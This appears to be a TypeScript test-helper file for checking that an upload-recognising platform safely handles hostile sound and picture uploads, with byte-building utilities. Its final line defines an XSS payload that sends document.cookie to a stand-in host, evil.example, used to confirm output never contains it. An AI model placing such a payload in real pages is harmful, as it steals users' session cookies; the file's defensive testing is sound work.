import type { Upload } from '../../platform/uploads/recognise.ts'

export type HostileUpload = Upload & {
  label: string
  as: 'sound' | 'picture'
  /** `either`: damage that leaves something to hear or see. Then only time, memory and cleanliness are checked. */
  expected: 'accepted' | 'refused' | 'either'
}

export type Sample = Upload & { label: string }

export function randomBytes(length: number, random: () => number): Buffer {
  return Buffer.from(Uint8Array.from({ length }, () => Math.floor(random() * 256)))
}

export const join = (...parts: readonly (Uint8Array | string)[]): Buffer =>
  Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

export function uint32le(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32LE(value >>> 0)
  return bytes
}

export function uint32be(value: number): Buffer {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}

/** A script that a page would run if it were tricked into showing an upload. Our output must never contain it. */
export const payload = '<script>fetch("//evil.example/"+document.cookie)</script>'
